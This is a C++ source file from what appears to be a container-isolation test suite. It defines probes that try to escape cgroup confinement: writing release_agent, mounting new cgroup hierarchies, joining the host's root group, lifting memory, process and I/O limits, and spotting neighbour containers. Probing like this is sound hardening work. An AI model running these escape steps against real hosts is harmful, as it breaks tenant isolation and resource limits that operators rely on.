// Out of the own cgroup: up, sideways, by another mount, or by a program the kernel runs for us.
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>

#include "attack/attempt.hpp"
#include "attack/files.hpp"

namespace attack {
namespace {

bool of_cgroups(const Mount& mount) {
  return mount.type == "cgroup" || mount.type == "cgroup2";
}

/// The host's root group, which has no events to tell of (v2) or a release agent (v1).
bool is_host_root(const Mount& mount) {
  const char* file = mount.type == "cgroup" ? "/release_agent" : "/cgroup.events";
  return (access((mount.target + file).c_str(), F_OK) == 0) == (mount.type == "cgroup");
}

std::vector<Mount> cgroup_mounts() {
  std::vector<Mount> found;
  for (const Mount& one : mounts())
    if (of_cgroups(one)) found.push_back(one);
  return found;
}

Outcome write_release_agent() {
  for (const Mount& one : cgroup_mounts()) {
    const Outcome outcome = write_back(one.target + "/release_agent");
    if (outcome.kind == Outcome::Kind::LetThrough) return outcome;
  }
  return refused("no release_agent to write");
}

std::function<Outcome(const Facts&)> fresh_hierarchy(const char* type, const char* options) {
  return [=](const Facts&) {
    leave_mounts_behind();
    const std::string place = new_directory("cgroup");
    if (mount("cgroup", place.c_str(), type, 0, options) != 0) return refused_errno();
    const Mount made = {place, type, ""};
    return is_host_root(made) ? let_through("the host's root group") : not_there("only the own group");
  };
}

Outcome make_group_at_host_root(const Facts&) {
  for (const Mount& one : cgroup_mounts()) {
    if (!is_host_root(one)) continue;
    const std::string path = one.target + "/lxcell-attack";
    if (mkdir(path.c_str(), 0755) != 0) continue;
    rmdir(path.c_str());
    return let_through(path);
  }
  return refused("the host's root groups are out of sight");
}

/// A process that joins the host's root group is out of all limits.
Outcome join_host_root(const Facts&) {
  for (const Mount& one : cgroup_mounts()) {
    if (!is_host_root(one)) continue;
    const File file(open((one.target + "/cgroup.procs").c_str(), O_WRONLY | O_CLOEXEC));
    if (file && write(file.get(), "0", 1) == 1) return let_through(one.target);
  }
  return refused("the host's root groups are out of sight");
}

/// Limits that hold, found again after everything in sight has been set to "none".
Outcome raise_memory_limit(const Facts& facts) {
  const std::string configured = facts["memory"];
  for (const Mount& one : cgroup_mounts()) {
    for (const char* name : {"/memory.limit_in_bytes", "/memory.max"}) {
      const std::string path = one.target + name;
      const std::string before = read_some(path);
      const File file(open(path.c_str(), O_WRONLY | O_CLOEXEC));
      if (!file || before.rfind(configured, 0) != 0) continue;
      const char* none = name[8] == 'l' ? "-1" : "max";
      if (write(file.get(), none, std::char_traits<char>::length(none)) > 0) {
        const Outcome done = let_through(path);
        if (write(file.get(), before.data(), before.size()) < 0) return done;
        return done;
      }
    }
    for (const auto& line : lines_of(read_some(one.target + "/memory.stat")))
      if (line.rfind("hierarchical_memory_limit ", 0) == 0 && line.substr(26) != configured)
        return let_through("the limit is " + line.substr(26));
  }
  return refused("the limit lies above the own group");
}

/// v1 limits each group by itself: one that writes its own throttles, or leaves for a new group, has none.
Outcome raise_io_limit(const Facts&) {
  bool found = false;
  for (const Mount& one : cgroup_mounts()) {
    if (access((one.target + "/blkio.throttle.read_bps_device").c_str(), F_OK) != 0) continue;
    found = true;
    if (mount(nullptr, one.target.c_str(), nullptr, MS_REMOUNT | MS_BIND, nullptr) == 0)
      return let_through(one.target + " is writable again");
    const File file(open((one.target + "/blkio.throttle.read_bps_device").c_str(), O_WRONLY | O_CLOEXEC));
    if (file) return let_through("its throttles can be written to");
    const std::string group = one.target + "/free";
    if (mkdir(group.c_str(), 0755) != 0) continue;
    rmdir(group.c_str());
    return let_through("a group without throttles: " + group);
  }
  return found ? refused("the own group's throttles are not for it to write") : not_there("no v1 blkio");
}

Outcome raise_process_limit(const Facts&) {
  for (const Mount& one : cgroup_mounts()) {
    const std::string path = one.target + "/pids.max";
    const std::string before = read_some(path);
    if (before.empty() || before.rfind("max", 0) == 0) continue;
    const File file(open(path.c_str(), O_WRONLY | O_CLOEXEC));
    if (file && write(file.get(), "max", 3) == 3) return let_through(path);
  }
  return refused("the limit lies above the own group");
}

bool is_in_tree(const std::string& directory, const std::string& name, int depth) {
  const auto names = names_in(directory);
  return std::any_of(names.begin(), names.end(), [&](const std::string& one) {
    if (contains(one, name)) return true;
    struct stat info {};
    const std::string path = directory + "/" + one;
    return depth > 0 && lstat(path.c_str(), &info) == 0 && S_ISDIR(info.st_mode) && is_in_tree(path, name, depth - 1);
  });
}

Outcome see_neighbour(const Facts& facts) {
  const std::string name = facts["neighbour"];
  if (name.empty()) return not_there("no neighbour");
  return is_in_tree("/sys/fs/cgroup", name, 7) ? let_through("its cgroup is in sight") : refused("not in sight");
}

/// The path on the host is nobody's business here.
Outcome see_own_place(const Facts& facts) {
  const std::string name = facts["name"];
  for (const auto& line : lines_of(read_some("/proc/self/cgroup") + read_some("/proc/1/cgroup")))
    if (contains(line, name) || contains(line, "machine")) return let_through(line);
  return refused("only /");
}

Outcome leave_by_nested_namespace(const Facts&) {
  return in_nested_user_namespace(CLONE_NEWNS | CLONE_NEWCGROUP, [] {
    const std::string place = new_directory("cgroup");
    for (const char* controllers : {"rdma", "memory", "pids", "net_cls", "misc"}) {
      if (mount("cgroup", place.c_str(), "cgroup", 0, controllers) != 0) continue;
      return access((place + "/release_agent").c_str(), W_OK) == 0 ? let_through(controllers)
                                                                   : refused("no release_agent");
    }
    return refused_errno();
  });
}

}  // namespace

Attempts cgroup_attempts() {
  return {
      {"S4_release_agent", [](const Facts&) { return write_release_agent(); }},
      {"cgroup_new_hierarchy", fresh_hierarchy("cgroup", "none,name=lxcellattack")},
      {"cgroup_v1_memory_anew", fresh_hierarchy("cgroup", "memory")},
      {"cgroup_v1_devices_anew", fresh_hierarchy("cgroup", "devices")},
      {"cgroup_v1_systemd_anew", fresh_hierarchy("cgroup", "none,name=systemd")},
      {"cgroup_v1_unused_anew", fresh_hierarchy("cgroup", "net_cls")},
      {"cgroup_v2_anew", fresh_hierarchy("cgroup2", nullptr)},
      {"cgroup_nested_release_agent", leave_by_nested_namespace},
      {"S6_cgroup_at_host_root", make_group_at_host_root},
      {"S6_join_host_root_cgroup", join_host_root},
      {"cgroup_raise_memory_limit", raise_memory_limit},
      {"cgroup_raise_process_limit", raise_process_limit},
      {"cgroup_raise_io_limit", raise_io_limit},
      {"S7_see_neighbours_cgroup", see_neighbour},
      {"cgroup_own_place", see_own_place},
  };
}

}  // namespace attack
